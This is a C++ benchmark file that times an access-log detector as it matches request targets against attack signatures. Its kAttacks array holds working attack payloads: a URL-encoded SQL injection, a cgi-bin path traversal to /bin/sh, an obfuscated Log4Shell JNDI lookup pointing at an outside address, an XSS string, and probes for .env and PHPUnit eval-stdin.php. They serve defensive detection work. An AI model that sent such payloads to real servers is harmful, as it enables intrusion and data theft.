// What it costs to look for attack signatures in one request, and to look a page's size up.
//
// Usage: signatures_bench
#include <benchmark/benchmark.h>

#include <array>
#include <random>
#include <string_view>

#include "detect/attack_signatures.h"
#include "detect/page_sizes.h"

namespace accesslog {
namespace {

const AttackSignatures& BuiltIn() {
  static const auto signatures = AttackSignatures::Create().value();
  return *signatures;
}

struct Target {
  std::string_view path;
  std::string_view query;
};

constexpr std::array<Target, 8> kClean = {{
    {"/blog/geekery/disabling-battery-in-ubuntu-vms.html", "page=12&ref=side"},
    {"/image/60844/productModel/200x200", ""},
    {"/wp-content/themes/main/assets/js/menu.min.js", "ver=6.4.2"},
    {"/index.php/apps/files/ajax/getstoragestats.php", "dir=/Photos"},
    {"/api/v1/customers/1834/orders", "limit=50&sort=-created"},
    {"/static/fonts/inter/Inter-Regular.woff2", ""},
    {"/products/kitchen/coffee-machines/espresso-3000", "color=red"},
    {"/Items/5203a7e70b667d2cfaee2cd2eb3de082/Images/Primary", "MaxHeight=330"},
}};

// Honest, but written with escapes, so that it must be decoded.
constexpr std::array<Target, 4> kEscaped = {{
    {"/search", "q=coffee+machine+with+grinder&category=kitchen%20tools"},
    {"/filter/27%7C13%20%D9%85%DA%AF%D8%A7%D9%BE%DB%8C%DA%A9%D8%B3%D9%84", ""},
    {"/oauth/authorize", "redirect_uri=https%3A%2F%2Fwww.example.org%2Fcb&scope=a%20b"},
    {"/blog/tags/jquery%20mobile", "utm_campaign=Feed%3A+a%2Fmain+%28a.com%29"},
}};

constexpr std::array<Target, 6> kAttacks = {{
    {"/.env", ""},
    {"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", ""},
    {"/item", "id=-1%27/**/uNiOn/**/AlL/**/sElEcT/**/null,null,version()--+-"},
    {"/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", ""},
    {"/", "x=${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://203.0.113.9/a}"},
    {"/search", "q=%22%3E%3Cimg+src=x+onerror=alert(1)%3E"},
}};

constexpr std::array<std::string_view, 4> kBrowsers = {
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
    "Gecko) Version/17.2 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
    "curl/8.5.0",
};

template <size_t kCount>
void Targets(benchmark::State& state, const std::array<Target, kCount>& targets) {
  size_t bytes = 0;
  for (const auto& [path, query] : targets) bytes += path.size() + query.size();
  size_t i = 0;
  for (auto _ : state) {
    const auto& [path, query] = targets[i++ % kCount];
    benchmark::DoNotOptimize(BuiltIn().MatchTarget("GET", path, query));
  }
  state.counters["bytes"] = static_cast<double>(bytes) / kCount;
}

void CleanTargets(benchmark::State& state) { Targets(state, kClean); }
void EscapedTargets(benchmark::State& state) { Targets(state, kEscaped); }
void AttackTargets(benchmark::State& state) { Targets(state, kAttacks); }

void UserAgents(benchmark::State& state) {
  size_t i = 0;
  for (auto _ : state) {
    benchmark::DoNotOptimize(BuiltIn().MatchHeaders(kBrowsers[i++ % kBrowsers.size()],
                                                    "https://www.example.org/products/kitchen"));
  }
}

// The dearest text that was thought of: a piece full of what patterns are asked about.
void WorstTarget(benchmark::State& state) {
  constexpr std::string_view kBait =
      "union or 1 and ' or '(select ;select order by 1 sleep( onload= ;cat <svg javascript: "
      "document.cookie $( php:/input .zip ${a ";
  std::string query;
  while (query.size() + kBait.size() < 4096) query += kBait;
  for (auto _ : state) benchmark::DoNotOptimize(BuiltIn().MatchTarget("GET", "/", query));
}

// As many different sizes as the argument says.
void PageSize(benchmark::State& state) {
  PageSizes sizes;
  std::mt19937_64 random(1);
  std::array<uint64_t, 4096> bytes{};
  for (uint64_t& size : bytes) size = random() % static_cast<uint64_t>(state.range(0)) + 1000;
  const Time now{std::chrono::hours{480000}};
  size_t i = 0;
  for (auto _ : state) {
    ++i;
    sizes.Observe(i * 0x9E3779B97F4A7C15U % 1000, bytes[i % bytes.size()], now);
  }
}

BENCHMARK(CleanTargets);
BENCHMARK(EscapedTargets);
BENCHMARK(AttackTargets);
BENCHMARK(UserAgents);
BENCHMARK(WorstTarget);
BENCHMARK(PageSize)->Arg(100)->Arg(30000);

}  // namespace
}  // namespace accesslog

BENCHMARK_MAIN();
